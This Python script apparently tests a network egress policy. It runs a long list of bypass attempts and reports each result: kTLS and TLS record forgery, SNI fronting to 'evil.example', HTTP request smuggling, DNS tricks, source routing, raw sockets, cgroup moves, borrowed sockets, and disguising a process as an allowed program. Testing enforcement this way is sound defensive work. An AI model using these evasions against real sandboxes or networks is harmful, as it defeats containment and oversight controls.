"""policy_bypass: a program that tries, in turn, to get a request past its policy.

policy_bypass.py CAFILE WAYS...: a line for each attempt: its name, and what came of it.
"""
import ctypes
import errno
import glob
import os
import socket
import ssl
import struct
import sys

from policy_bypass_words import ALLOWED, CAFILE, DENIED, SITE, WORD, answers, hello, record, say, tcp, tls

NAMES, OTHER, LOOPBACK = "203.0.113.53", "203.0.113.54", "127.0.0.1"
SITE6, ROUTER, ROUTER6 = "2001:db8:2::10", "192.0.2.1", "2001:db8:1::1"
CLOSED = 9000  # a port of the site that no rule allows
UNREAD = 7000  # one where nothing is read
FASTOPEN, NO_COOKIE, MPTCP, SCTP, UDPLITE = 0x20000000, 34, 262, 132, 136
LENDER, CURLY = os.environ.get("LENDER", ""), os.environ.get("CURLY", "")


def asks():
    return say(tls())


def refuses_our_leaf():
    return say(tls(context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)))


def zero_key(sock):
    """Records that the kernel makes, or, where it has no such module, the same ones by hand."""
    try:
        sock.setsockopt(socket.IPPROTO_TCP, 31, b"tls")  # TCP_ULP
        sock.setsockopt(282, 1, struct.pack("<HH8s16s4s8s", 0x303, 51, bytes(8), bytes(16), bytes(4), bytes(8)))
        sock.sendall(DENIED)
        return answers(sock)
    except OSError as error:
        if error.errno not in (errno.ENOENT, errno.ENOPROTOOPT):
            raise
    return say(sock, record(23, bytes(8) + DENIED + bytes(16)))


def ktls_zero_key():
    return zero_key(tcp())


def ktls_behind_a_hello():
    sock = tcp()
    sock.sendall(hello())
    return zero_key(sock)


def ktls_behind_a_handshake():
    sock = tls()
    return zero_key(socket.socket(fileno=sock.detach()))


def plain_bytes():
    return say(tcp())


def odd_bytes():
    return say(tcp(), b"\0\0\0\x0bsecret word\n" + DENIED)


def old_ssl():
    return say(tcp(), bytes.fromhex("802e0100020015000000100100800200800300800400800500800600") + DENIED)


def old_tls():
    return say(tcp(), hello(legacy=0x0300) + DENIED)


def early_data():
    return say(tcp(), hello(bytes.fromhex("002a0000")) + record(23, DENIED))


def ech():
    inner = b"\0\0\x01\0\x01\x07\0\0" + struct.pack(">H", 32 + len(DENIED)) + bytes(32) + DENIED
    return say(tcp(), hello(struct.pack(">HH", 0xFE0D, len(inner)) + inner) + record(23, DENIED))


def other_protocol():
    return say(tls(alpn=["acme-tls/1"]))


def fronting():
    return say(tls(), DENIED.replace(b"good", b"evil").replace(b"/secret", b"/ok?secret"))


def other_name():
    return say(tls(name="evil.example"))


def upgrade(to):
    sock = tls()
    return say(sock, ALLOWED[:-2] + b"Connection: upgrade\r\nUpgrade: " + to + b"\r\n\r\n" + DENIED, 2)


def upgrade_websocket():
    return upgrade(b"websocket")


def upgrade_h2c():
    return upgrade(b"h2c")


def connect_method():
    return say(tls(), b"CONNECT good.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\n" + DENIED)


def absolute_form():
    return say(tls(), DENIED.replace(b" /", b" https://good.example/"))


def bytewise():
    sock = tls()
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in DENIED:
        sock.send(bytes((byte,)))
    return answers(sock)


def pipelined():
    return say(tls(), ALLOWED + DENIED, 2)


def behind_a_body():
    return say(tls(), ALLOWED[:-2] + b"Content-Length: 4\r\n\r\nbody" + DENIED, 2)


def two_lengths():
    head = b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(DENIED)
    return say(tls(), ALLOWED[:-2] + head + DENIED)


def chunked_and_length():
    head = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (len(DENIED) + 5)
    return say(tls(), ALLOWED[:-2] + head + DENIED)


def path_of_dots():
    return say(tls(), DENIED.replace(b"/secret", b"/ok/../secret"))


def fast_open():
    sock = socket.socket()
    sock.sendto(DENIED, FASTOPEN, (SITE, 443))
    return answers(sock)


def fast_open_elsewhere():
    sock = socket.socket()
    sock.sendto(DENIED, FASTOPEN, (SITE, CLOSED))


def closed_port():
    say(tcp(port=CLOSED))


def mapped_address():
    say(tcp("::ffff:" + SITE, CLOSED, socket.AF_INET6))


def connects_again():
    sock = tcp()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.connect(sock.fileno(), bytes(16), 16):  # AF_UNSPEC
        return errno.errorcode[ctypes.get_errno()]
    sock.connect((SITE, CLOSED))
    return say(sock)


def bound_to_a_device():
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    sock.connect((SITE, CLOSED))
    return say(sock)


def route():
    return bytes((131, 7, 4)) + socket.inet_aton(ROUTER) + b"\1"  # loose, by one host


def in_a_syn(sock, address):
    """At once, whoever may answer."""
    sock.setsockopt(socket.IPPROTO_TCP, NO_COOKIE, 1)
    sock.setblocking(False)
    try:
        sock.sendto(DENIED, FASTOPEN, (address, UNREAD))
    except BlockingIOError:
        pass


def send_and_leave(sock):
    """Nothing is tried again when the program is gone, and with `exec` what looks at its packets."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.send(DENIED)
    sock.close()


def route_later():
    """What is for the listener takes another way: the route is looked up anew for another TOS."""
    sock = tcp()
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route())
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 16)
    send_and_leave(sock)


def route_unread():
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route())
        in_a_syn(sock, SITE)


def route_v6():
    segments = socket.inet_pton(socket.AF_INET6, SITE6) + socket.inet_pton(socket.AF_INET6, ROUTER6)
    with socket.socket(socket.AF_INET6) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, 57, bytes((0, 4, 4, 1, 1, 0, 0, 0)) + segments)  # IPV6_RTHDR
        in_a_syn(sock, SITE6)


def device_later():
    sock = tcp()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth1\0")
    send_and_leave(sock)


def device_question():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth1\0")
        sock.sendto(HEAD + b"\6secret\7example\0\0\1\0\1", (NAMES, 53))


def listener_that_connects():
    sock = socket.create_server(("", 0))
    sock.shutdown(socket.SHUT_RD)
    sock.connect((SITE, CLOSED))
    return say(sock)


def quic():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((SITE, 443))
        sock.send(bytes.fromhex("c300000001") + bytes(1195) + WORD)


def datagram_connected_again():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((NAMES, 53))
        sock.connect((SITE, CLOSED))
        sock.send(WORD)


def datagrams_at_once():
    """sendmmsg: to whom it may, then to whom it may not."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    libc = ctypes.CDLL(None, use_errno=True)
    data = ctypes.create_string_buffer(WORD)
    keep, headers = [data], b""
    for address, port in (LOOPBACK, 9), (SITE, CLOSED):
        name = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8), 16)
        iov = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(data), len(WORD)), 16)
        keep += name, iov
        headers += struct.pack("<QIIQQQQI4xI4x", ctypes.addressof(name), 16, 0, ctypes.addressof(iov), 1, 0, 0, 0, 0)
    return "%d of 2" % libc.sendmmsg(sock.fileno(), headers, 2, 0)


def datagram_with_source():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    source = struct.pack("<i4s4s", 0, socket.inet_aton("192.0.2.2"), bytes(4))
    sock.sendmsg([WORD], [(socket.IPPROTO_IP, 8, source)], 0, (SITE, CLOSED))  # IP_PKTINFO


def other_resolver():
    question = bytes.fromhex("00010100000100000000000006") + WORD + bytes.fromhex("0000010001")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.sendto(question, (OTHER, 53))
        return "rcode %d" % (sock.recv(512)[3] & 15)


def other_resolver_tcp():
    question = bytes.fromhex("00010100000100000000000006") + WORD + bytes.fromhex("0000010001")
    sock = tcp(OTHER, 53)
    sock.sendall(struct.pack(">H", len(question)) + question)
    return "rcode %d" % (sock.recv(512)[5] & 15)


def asked(*questions):
    sock = tcp(NAMES, 53)
    sock.sendall(b"".join(struct.pack(">H", len(q)) + q for q in questions))
    got, codes = b"", []
    while len(codes) < len(questions):
        more = sock.recv(4096)
        if not more:
            break
        got += more
        while len(got) > 2 and len(got) >= 2 + (length := struct.unpack(">H", got[:2])[0]):
            codes.append(str(got[5] & 15))
            got = got[2 + length:]
    return "rcode " + ",".join(sorted(codes))


HEAD, GOOD = bytes.fromhex("0001010000010000000000000"[:24]), b"\4good\7example\0"


def questions_pipelined():
    return asked(HEAD + GOOD + b"\0\1\0\1", HEAD + b"\6secret\7example\0\0\1\0\1")


def question_compressed():
    return asked(HEAD + b"\6secret\xc0\x0c\0\1\0\1")


def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sock:
        sock.sendto(struct.pack(">HHHH", 1, CLOSED, 8 + len(WORD), 0) + WORD, (SITE, 0))


def other_kind(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as sock:
        sock.connect((SITE, 443))
        sock.send(DENIED)


def sctp():
    other_kind(socket.SOCK_SEQPACKET, SCTP)


def mptcp():
    other_kind(socket.SOCK_STREAM, MPTCP)


def udplite():
    other_kind(socket.SOCK_DGRAM, UDPLITE)


def becomes(path, way, name="python3"):
    """What a program at this path, called so, gets that goes this way; told by its last word."""
    return in_child(lambda: os.execv(path, [name, __file__, CAFILE, way])).split()[-1]


def another_sends(path=sys.executable):
    """Connects, and leaves the sending to a program that it becomes."""
    sock = tcp()
    sock.setblocking(True)
    os.set_inheritable(sock.fileno(), True)
    os.environ["INHERITED"] = str(sock.fileno())
    return becomes(path, "inherited")


def curly():
    return becomes(CURLY, "asks")


def curly_sends():
    return another_sends(CURLY)


def curly_by_name():
    return becomes(sys.executable, "asks", CURLY)


def curly_by_another_link():
    os.link(CURLY, CURLY + ".link")
    return becomes(CURLY + ".link", "asks", CURLY)


def curly_in_memory():
    fd = os.memfd_create(CURLY[1:].replace("/", "-"), 0)
    with open(sys.executable, "rb") as image:
        os.sendfile(fd, image.fileno(), 0, os.fstat(image.fileno()).st_size)
    return becomes("/proc/self/fd/%d" % fd, "asks", CURLY)


def curly_by_loader():
    loader = glob.glob("/lib*/ld-linux-*.so.*")[0]
    return in_child(lambda: os.execv(loader, [loader, CURLY, __file__, CAFILE, "asks"])).split()[-1]


def in_child(what):
    """By a process of its own, whose last words are the answer."""
    out, into = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(into, 1)
        os.dup2(os.open("/dev/null", os.O_WRONLY), 2)
        try:
            print(what(), flush=True)
        except OSError as error:
            print(errno.errorcode.get(error.errno, error), flush=True)
        os._exit(0)
    os.close(into)
    with open(out, encoding="ascii") as words:
        said = words.read().strip()
    os.waitpid(pid, 0)
    return said


def cgroup_below():
    root = next(line.split()[1] for line in open("/proc/self/mounts", encoding="utf-8") if " cgroup2 " in line)
    own = root + open("/proc/self/cgroup", encoding="ascii").read().split("::")[1].strip() + "/below"

    def moves():
        deep = own
        for _ in range(3):
            os.makedirs(deep, exist_ok=True)
            with open(deep + "/cgroup.procs", "w", encoding="ascii") as procs:
                procs.write("0")
            deep += "/more"
        return say(tcp(port=CLOSED))

    return in_child(moves)


def lent(sort):
    """A socket that who is no part of the pod has made."""
    with socket.socket(socket.AF_UNIX) as lender:
        lender.connect(LENDER)
        lender.sendall(sort.encode())
        _, fds, _, _ = socket.recv_fds(lender, 1, 1)
    if not fds:
        return None
    return socket.socket(fileno=fds[0])


def lent_to_connect():
    sock = lent("unconnected")
    sock.connect((SITE, CLOSED))
    return say(sock)


def lent_datagram():
    lent("datagram").sendto(WORD, (SITE, CLOSED))


def inherited():
    return say(socket.socket(fileno=int(os.environ["INHERITED"])))


def program(ways):
    for way in ways:
        try:
            went = globals()[way]() or "sent"
        except OSError as error:  # ssl.SSLError, too
            went = getattr(error, "reason", None) or errno.errorcode.get(error.errno, str(error))
        print(way, went, flush=True)


program(sys.argv[2:])
